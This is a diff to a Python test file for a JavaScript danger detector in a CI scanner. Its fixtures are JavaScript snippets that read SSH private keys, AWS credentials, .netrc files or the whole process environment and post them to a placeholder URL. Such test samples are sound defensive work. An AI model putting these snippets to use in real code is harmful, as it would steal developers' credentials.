@@ -8,7 +8,7 @@ from aces_ci.core.finding import Severity
 from aces_ci.core.scripts.detectors.javascript_danger import scan
 
 SENT = {
-    "read, then sent": "const k = fs.readFileSync(home + '/.ssh/id_rsa', 'utf8');\nfetch(U, {method: 'POST', body: k});",
+    "read, then sent": "const k = fs.readFileSync(home + '/.ssh/id_rsa');\nfetch(U, {method: 'POST', body: k});",
     "awaited": "const k = await readFile(`${home}/.aws/credentials`);\nawait axios.post(U, {k});",
     "passed on": "const k = fs.readFileSync('/root/.netrc');\nconst b = k.toString('base64');\nfetch(`${U}?k=${b}`);",
     "environment": "const e = JSON.stringify(process.env);\nreq.write(e);",
